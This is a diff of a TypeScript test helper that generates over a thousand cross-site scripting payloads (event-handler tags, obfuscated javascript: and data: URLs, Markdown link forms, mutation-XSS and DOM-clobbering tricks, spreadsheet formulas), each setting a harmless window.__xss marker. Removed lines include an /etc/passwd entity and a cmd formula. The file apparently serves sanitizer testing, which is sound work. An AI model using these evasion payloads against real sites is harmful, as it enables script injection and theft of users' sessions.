@@ -1,129 +1,148 @@
-/** What an attack would run: a test in a browser can see that it did. */
+/** What every payload tries to do. */
 const RUN = 'window.__xss=1';
 
-const EVENTS =
-  'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onbegin onanimationstart onpageshow'.split(
+const EVENTS = 'onerror onload onclick onmouseover onfocus ontoggle onbegin onanimationstart'.split(
+  ' ',
+);
+const TAGS =
+  'img svg body iframe video audio input details math object embed form marquee select a div isindex style link'.split(
     ' ',
   );
+/** Elements whose content other rules read than those of HTML, or none. */
+const RAW = 'template noscript style textarea title xmp noembed noframes iframe script'.split(' ');
 
-const ELEMENTS = (
-  'img src=x|svg|body|video src=x|audio src=x|input autofocus|details open|iframe|object data=x|embed src=x|' +
-  'marquee|a href=# autofocus|button autofocus|select autofocus|textarea autofocus|form|math|style|link href=x|' +
-  'animate|image src=x|xss tabindex=0 autofocus|template|frameset|source src=x|track src=x|keygen autofocus|p'
-).split('|');
-
-/** Before and behind an attack: out of what it may stand in. */
-const BREAKS: readonly [string, string][] = [
-  ['', ''],
-  ['">', ''],
-  ["'>", ''],
-  ['</p>', ''],
-  ['</script>', ''],
-  ['-->', ''],
-  [']]>', ''],
-  ['</textarea></title></style></noscript>', ''],
-  ['<!--', '-->'],
-  ['<![CDATA[', ']]>'],
-  ['`', '`'],
-  ['```html\n', '\n```'],
-  ['> ', ''],
-  ['- ', ''],
-  ['**', '**'],
-  ['[', '](https://a.example)'],
+/** A script's address, in the ways that browsers or filters have read it. */
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java&#9;script:${RUN}`,
+  `java&NewLine;script:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `javascript&#58;${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `&#x6A&#x61&#x76&#x61script:${RUN}`,
+  `java%0ascript:${RUN}`,
+  `javascript%3A${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `java\u0000script:${RUN}`,
+  `\u202Ejavascript:${RUN}`,
+  `javascript://example.com/%0a${RUN}`,
+  `http:javascript:${RUN}`,
+  `https://example.com/"onmouseover="${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg onload="${RUN}"/>`,
+  `blob:https://example.com/${RUN}`,
+  `view-source:javascript:${RUN}`,
+  `//example.com/${RUN}`,
 ];
 
-const SCHEMES = [
-  'javascript:',
-  'JaVaScRiPt:',
-  'java\tscript:',
-  'java\nscript:',
-  ' javascript:',
-  '\u0001javascript:',
-  'javascript&colon;',
-  '&#106;avascript:',
-  '&#x6A&#x61;vascript:',
-  'javascript\u200b:',
-  'vbscript:',
-  'data:text/html,<script>',
-  'data:text/html;base64,',
-  'blob:',
-  'file:///',
-  'view-source:javascript:',
-  '//evil.example/',
-  '\\javascript:',
+/** Where Markdown, and HTML, take an address. */
+const LINKS: ((address: string) => string)[] = [
+  (to) => `[가](${to})`,
+  (to) => `[가](<${to}>)`,
+  (to) => `[가](${to} "${RUN}")`,
+  (to) => `![가](${to})`,
+  (to) => `[![가](${to})](${to})`,
+  (to) => `<${to}>`,
+  (to) => `[가][나]\n\n[나]: ${to}`,
+  (to) => `[나]\n\n[나]: <${to}> 'a'`,
+  (to) => `**${to}**`,
+  (to) => `<a href="${to}">가</a>`,
+  (to) => `<a href='${to}' target=_blank>가</a>`,
+  (to) => `<iframe src="${to}"></iframe>`,
+  (to) => `<form action="${to}"><button formaction="${to}">가</button></form>`,
+  (to) => `<svg><a xlink:href="${to}"><text>가</text></a></svg>`,
+  (to) => `<math><mi xlink:href="${to}">가</mi></math>`,
+  (to) => `<base href="${to}//">`,
+  (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
+  (to) => `<object data="${to}"></object><embed src="${to}">`,
+  (to) => `<img srcset="${to} 1x, ${to} 2x" src="${to}">`,
+  (to) => `<p style="background:url('${to}')">가</p>`,
+  (to) => `<style>@import '${to}';</style>`,
 ];
 
-/** Ways in which Markdown holds an address. */
-const LINKS: readonly ((address: string) => string)[] = [
-  (address) => `[x](${address})`,
-  (address) => `[x](<${address}>)`,
-  (address) => `[x](${address} "onmouseover=${RUN}")`,
-  (address) => `![x](${address})`,
-  (address) => `<${address}>`,
-  (address) => `[x]: ${address}\n[x]`,
-  (address) => `[![x](${address})](${address})`,
-  (address) => `<a href="${address}">x</a>`,
-  (address) => `<a href='${address}'>x</a>`,
-  (address) => `<form action="${address}"><button>x</button></form>`,
-  (address) => `<iframe src="${address}"></iframe>`,
-  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
-  (address) => `<base href="${address}">`,
-  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
-  (address) => `<math href="${address}">x</math>`,
-  (address) => `<img srcset="${address} 1x">`,
-  (address) => `<style>*{background:url(${address})}</style>`,
-  (address) => `https://a.example/"${address}`,
+const SCRIPT = `<script>${RUN}</script>`;
+const IMAGE = `<img src=x onerror=${RUN}>`;
+
+/** Ways out of what text stands in. */
+const BREAK_OUTS = [
+  '"',
+  "'",
+  '`',
+  '">',
+  "'>",
+  '`>',
+  '-->',
+  '--!>',
+  ']]>',
+  '?>',
+  '*/',
+  '");',
+  '</p>',
+  '</code></pre>',
+  '</blockquote>',
+  '\u2028',
+  '\u0000',
+  '\\"',
+  '%22%3E',
+  '&quot;&gt;',
 ];
 
-/** What parsers of HTML, XML, JSON, style sheets and tables of figures have been deceived with. */
-const ODD = [
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
-  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
-  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
-  `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x>x</a></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${RUN} />#x" />`,
-  `<template><script>${RUN}</script></template>`,
-  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<script\u0000>${RUN}</script>`,
-  `<script/x>${RUN}</script/x>`,
-  `<<script>${RUN}//<</script>`,
-  `\u202e<script>${RUN}</script>`,
-  `\ufeff<script>${RUN}</script>`,
-  `＜script＞${RUN}＜/script＞`,
-  `&lt;script&gt;${RUN}&lt;/script&gt;`,
-  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
-  `{"a":"</script><script>${RUN}</script>"}`,
-  `\u2028${RUN}\u2029`,
-  `'-(${RUN})-'`,
-  `\${${RUN}}`,
-  `{{constructor.constructor('${RUN}')()}}`,
-  `{${RUN}}`,
-  `<Callout>{${RUN}}</Callout>`,
-  `export const x = ${RUN}`,
-  `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
-  `<?xml-stylesheet href="javascript:${RUN}"?>`,
-  `]]><script>${RUN}</script><![CDATA[`,
-  `=HYPERLINK("javascript:${RUN}")`,
-  `@SUM(1+1)*cmd|' /C calc'!A0`,
-  `<form id=body><input name=innerHTML>`,
-  `<img name=getElementById><a id=location href=javascript:${RUN}>`,
-  `<p class="comment-owner" id="said" style="position:fixed;inset:0">x</p>`,
-  `\`\`\`" onmouseover="${RUN}\nx\n\`\`\``,
-  `~~~ts onload=${RUN}\n</code></pre><script>${RUN}</script>\n~~~`,
+/** Markdown and markup around something evil. */
+const FRAMES: ((evil: string) => string)[] = [
+  (evil) => evil,
+  (evil) => `\`${evil}\``,
+  (evil) => `\`\`\`${evil}\n${evil}\n\`\`\``,
+  (evil) => `\`\`\`html\n</code></pre>${evil}\n\`\`\``,
+  (evil) => `~~~js "${evil}"\n${evil}`,
+  (evil) => `> - 1. ${evil}`,
+  (evil) => `# ${evil}\n${evil}\n===`,
+  (evil) => `|a|\n|-|\n|${evil}|`,
+  (evil) => `[^1]\n\n[^1]: ${evil}`,
+  (evil) => `[${evil}](https://example.com/ "${evil}")`,
+  (evil) => `![${evil}](https://example.com/)`,
+  (evil) => `<!--${evil}-->${evil}`,
+  (evil) => `<!--><${evil}-->`,
+  (evil) => `<![CDATA[${evil}]]>`,
+  (evil) => `<?xml ${evil}?>`,
+  (evil) => `<!DOCTYPE x [<!ENTITY a "${evil}">]>&a;`,
+  (evil) => `\u202E${evil}\u2066`,
+  (evil) => `{${evil}} {{${evil}}} \${${evil}} $$${evil}$$`,
+  (evil) => `</script>${evil}`,
+  (evil) => `{"a":"</script>${evil}"}`,
 ];
 
-/** A thousand and more ways in which people have had others' browsers run their words, each another text. */
+/** Trees that parsers make anew when they read them twice. */
+const MUTATING = [
+  (evil: string) => `<svg></p><style><a id="</style>${evil}">`,
+  (evil: string) => `<math><mtext><table><mglyph><style><!--</style>${evil}`,
+  (evil: string) => `<form><math><mtext></form><form><mglyph><style></math>${evil}`,
+  (evil: string) => `<svg><foreignObject><noscript><p title="</noscript>${evil}">`,
+  (evil: string) => `<math><annotation-xml encoding="text/html">${evil}</annotation-xml></math>`,
+  (evil: string) => `<select><template><style><!--</style><a rel="--></style></template>${evil}">`,
+  (evil: string) => `<svg><desc><![CDATA[</desc>${evil}]]></svg>`,
+];
+
+const NAMES = 'cookie body forms getElementById __proto__ constructor attributes'.split(' ');
+
+/** Over a thousand texts, all different, that set `window.__xss` where they are taken for more than text. */
 export function xssPayloads(): string[] {
-  const tags = ELEMENTS.flatMap((element) => [
-    ...EVENTS.map((event) => `<${element} ${event}=${RUN}>`),
-    `<${element.replace(' ', '/')}/${EVENTS[0]}="${RUN}">`,
-  ]);
-  const scripts = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<svg/onload=${RUN}>`];
-  const broken = BREAKS.flatMap(([before, behind]) =>
-    [...scripts, ...tags.filter((_, n) => n % 9 === 0)].map((tag) => before + tag + behind),
+  const handlers = TAGS.flatMap((tag) =>
+    EVENTS.map((event) => `<${tag} src=x ${event}="${RUN}" autofocus open>`),
   );
-  const links = SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme + RUN)));
-  return [...new Set([...tags, ...broken, ...links, ...ODD])];
+  const odd = EVENTS.flatMap((event) => [`<svg/${event}=${RUN}//`, `<IMG\n${event}\n=\n${RUN}\n>`]);
+  const links = ADDRESSES.flatMap((address) => LINKS.map((link) => link(address)));
+  const evils = [SCRIPT, IMAGE, `<svg><script>${RUN}</script></svg>`, `＜script＞${RUN}`];
+  const outs = BREAK_OUTS.flatMap((out) => [`${out}${SCRIPT}`, `${out} onfocus=${RUN} a=${out}`]);
+  const framed = [...evils, ...outs].flatMap((evil) => FRAMES.map((frame) => frame(evil)));
+  const raw = RAW.flatMap((tag) => evils.map((evil) => `<${tag}><p title="</${tag}>${evil}">`));
+  const mutating = MUTATING.flatMap((frame) => evils.map(frame));
+  const clobbering = NAMES.map((name) => `<form id=${name}><img name=${name} onerror=${RUN} src>`);
+  const formulas = [...'=+-@\t\r'].map((sign) => `${sign}HYPERLINK("javascript:${RUN}","가")`);
+  const all = [handlers, odd, links, framed, raw, mutating, clobbering, formulas].flat();
+  return [...new Set(all)];
 }
